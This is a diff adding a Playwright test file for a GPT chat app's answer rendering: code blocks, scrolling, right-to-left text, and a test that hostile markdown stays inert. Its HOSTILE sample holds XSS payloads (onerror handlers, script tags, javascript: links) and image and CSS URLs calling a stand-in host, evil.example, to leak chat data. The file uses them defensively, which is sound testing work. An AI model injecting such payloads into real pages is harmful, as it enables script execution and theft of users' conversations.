@@ -1,0 +1,222 @@
+"""What an answer looks like while it is written and afterwards, in a real browser; also a hostile one."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+
+import pytest
+from playwright.sync_api import Browser, Locator, Page, expect
+
+from gpts.models import GPT, SharedConversation
+from tests.browser.people import Person
+from tests.browser.test_chat import say
+from tests.fakes.openai_server import Running, start_in_thread
+from tests.flows.stage import wait_for
+from tests.gpts.chat.stage import a_model, a_public_gpt, a_user
+from tests.services import WebService
+
+RICH = """## Signing
+
+The hash is $h = m^2$, and
+
+$$\\frac{a}{b}$$
+
+| Header | Example |
+|---|---:|
+| `X-Time` | 17 |
+
+```python
+def sign(key):
+    return key + 1  # one more
+
+print(sign(2))
+```
+
+And the end.
+"""
+# X01, X03, X05, X08: each of these asks the reader's browser for something, or wants to run in it.
+HOSTILE = """<img src=x onerror="window.pwned=1"> <svg onload="window.pwned=1"></svg>
+
+<iframe srcdoc="<script>top.pwned=1</script>"></iframe> <script>window.pwned=1</script>
+
+[click](javascript:window.pwned=1) [data](data:text/html,<script>1</script>) <a href="//evil.example">x</a>
+
+![inline](https://evil.example/i.png?chat=secret) ![reference][r] <img srcset="https://evil.example/s.png 2x">
+
+[r]: https://evil.example/r.png?chat=secret
+
+<style>@import url(https://evil.example/a.css); body{background:url(https://evil.example/b.png)}</style>
+
+<div style="background:url(https://evil.example/c.png)">styled</div> <video poster="https://evil.example/v.png">
+
+https://evil.example/bare <https://evil.example/auto> [a\u202e](https://evil.example/bidi) [x](https://good.example@evil.example)
+
+$\\href{https://evil.example/k}{x} \\includegraphics{https://evil.example/k.png} \\url{javascript:alert(1)}$
+
+```mermaid
+graph LR; A["<img src=https://evil.example/m.png onerror=alert(1)>"] --> B
+```
+
+<meta http-equiv="refresh" content="0;url=https://evil.example/"> <base href="https://evil.example/"> <form action="https://evil.example/"><button>Go</button></form>
+
+| <img src=https://evil.example/t.png> |
+|---|
+| ![t](https://evil.example/t2.png) |
+
+<link rel="preload" href="https://evil.example/p.css" as="style"> <object data="https://evil.example/o.swf"></object>
+"""
+
+
+@pytest.fixture(scope="module")
+def model_server() -> Iterator[Running]:
+    running = start_in_thread()
+    yield running
+    running.stop()
+
+
+@pytest.fixture
+def person(browser: Browser, server: WebService) -> Iterator[Person]:
+    made = Person(browser, server.url, "Rita")
+    yield made
+    made.close()
+
+
+def opened(person: Person, model_server: Running, model: str) -> GPT:
+    model_server.state.control = ""
+    gpt = a_public_gpt(a_model(model_server.url, model))
+    person.enter(a_user("Rita"))
+    person.go(f"/g/{gpt.slug}/chat")
+    return gpt
+
+
+def ended(page: Page) -> None:
+    expect(page.get_by_role("button", name="Answer again").last).to_be_visible()
+    expect(page.locator(".message--running")).to_have_count(0)
+
+
+def until(place: Locator, script: str) -> None:
+    """Wait for a script to be true; the page's policy forbids the ready-made way, which evaluates strings."""
+    wait_for(lambda: bool(place.evaluate(script)))
+
+
+def test_code_streams_as_code_and_is_coloured_and_copied(person: Person, model_server: Running) -> None:
+    opened(person, model_server, "verbatim:1:25")
+    page = person.page
+    say(page, RICH)
+
+    # While the block is open it stands in a box of its own, without its fence.
+    expect(page.locator(".message--running .message__code")).to_contain_text("def sign(key):\n    return key")
+    assert "```" not in page.locator(".message--running .message__text").inner_text()
+    ended(page)
+
+    text = page.locator(".message--assistant .message__text")
+    expect(text.locator("h4")).to_have_text("Signing")
+    expect(text.locator("math")).to_have_count(2)
+    expect(text.locator("td.is-right")).to_have_text("17")
+    expect(text.locator(".code__text .tok-k").first).to_have_text("def")
+    # On plain http the browser has no clipboard to read; what is copied is what the page hands over.
+    page.evaluate(
+        "navigator.clipboard ? 0 : Object.defineProperty(navigator, 'clipboard', {value: {}});"
+        "navigator.clipboard.writeText = async (text) => { window.copied = text }"
+    )
+    text.get_by_role("button", name="Copy").click()
+    expect(text.get_by_role("button", name="Copied")).to_be_visible()
+    assert (
+        page.evaluate("window.copied") == "def sign(key):\n    return key + 1  # one more\n\nprint(sign(2))\n"
+    )
+    person.assert_quiet()
+
+
+def test_who_scrolls_up_stays_there_while_words_come(person: Person, model_server: Running) -> None:
+    opened(person, model_server, "normal:600:80")
+    page = person.page
+    column = page.locator("#column")
+    say(page, "A long answer")
+    # At the end the reader stays at the end.
+    until(column, "e => e.scrollTop > 300")
+    distance = "e => e.scrollHeight - e.scrollTop - e.clientHeight"
+    assert column.evaluate(distance) < 80
+
+    column.evaluate("e => { e.scrollTop = 40 }")
+    height = column.evaluate("e => e.scrollHeight")
+    until(column, f"e => e.scrollHeight > {height + 200}")
+
+    assert column.evaluate("e => e.scrollTop") == 40
+    down = page.get_by_role("button", name="To the latest message")
+    expect(down).to_be_visible()
+    ended(page)
+    assert column.evaluate("e => e.scrollTop") == 40
+    down.click()
+    until(column, "e => e.scrollHeight - e.scrollTop - e.clientHeight < 80")
+    expect(down).to_be_hidden()
+    person.assert_quiet()
+
+
+def test_hostile_markdown_is_inert_in_the_chat_and_behind_a_link(
+    person: Person, model_server: Running, browser: Browser
+) -> None:
+    opened(person, model_server, "verbatim")
+    page = person.page
+    say(page, HOSTILE)
+    ended(page)
+    assert_inert(page)
+    page.reload()
+    assert_inert(page)
+    # A link says where it leads and hands nothing over.
+    link = page.locator(".message--assistant a.image-link").first
+    expect(link).to_have_attribute("rel", "noopener nofollow ugc")
+    expect(link).to_have_attribute("target", "_blank")
+    expect(page.locator(".message--assistant .link-host").first).to_have_text("(evil.example)")
+    page.goto(f"{page.url}/share")
+    person.press("Make the link")
+    person.sees("Shared link")
+    assert_inert(page)
+    person.assert_quiet()
+
+    stranger = Person(browser, person.base_url, "Stranger")
+    try:
+        stranger.go(f"/s/{SharedConversation.objects.get().token}")
+        assert_inert(stranger.page)
+        # X10: what machines read of the page is nothing of the conversation but its title, escaped.
+        head = stranger.page.locator("head").inner_html()
+        assert "noindex" in head
+        assert "secret" not in head
+        stranger.assert_quiet()
+    finally:
+        stranger.close()
+
+
+def assert_inert(page: Page) -> None:
+    place = page.locator(".message--assistant .message__text").first
+    expect(place).to_contain_text("onerror")
+    assert page.evaluate("window.pwned") is None
+    loading = "img, svg, iframe, script, style, video, object, link, form, base, meta, [style], [srcset]"
+    assert place.locator(loading).count() == 0
+    hrefs = place.locator("a").evaluate_all("all => all.map((a) => a.getAttribute('href'))")
+    assert all(href.startswith(("https://", "http://", "mailto:")) for href in hrefs)
+    handlers = "all => all.flatMap((e) => e.getAttributeNames()).filter((name) => name.startsWith('on'))"
+    assert place.locator("*").evaluate_all(handlers) == []
+
+
+def test_names_that_run_from_right_to_left_and_emoji_stand_where_they_belong(
+    person: Person, model_server: Running
+) -> None:
+    model_server.state.control = ""
+    gpt = a_public_gpt(a_model(model_server.url, "verbatim"), name="מורה לאותיות 🏛️ Arches")
+    person.enter(a_user("Rita"))
+    person.go(f"/g/{gpt.slug}/chat")
+    page = person.page
+    question = "שלום 👋🏽, what is مرحبا in English? 👩‍👩‍👧"
+    say(page, question)
+    ended(page)
+
+    expect(page.locator(".message--user .message__text")).to_have_text(question)
+    expect(page.locator(".message--assistant .message__text")).to_have_text(question)
+    expect(page.locator(".message__name")).to_have_text("מורה לאותיות 🏛️ Arches")
+    # Each paragraph runs as its own first letter does, the page stays as it is.
+    for words in (".message--user .message__text", ".message--assistant .message__text > p"):
+        assert page.locator(words).evaluate("e => getComputedStyle(e).unicodeBidi") == "plaintext"
+    for width in (390, 1440):
+        page.set_viewport_size({"width": width, "height": 800})
+        assert not page.evaluate("document.documentElement.scrollWidth > innerWidth")
+    person.assert_quiet()
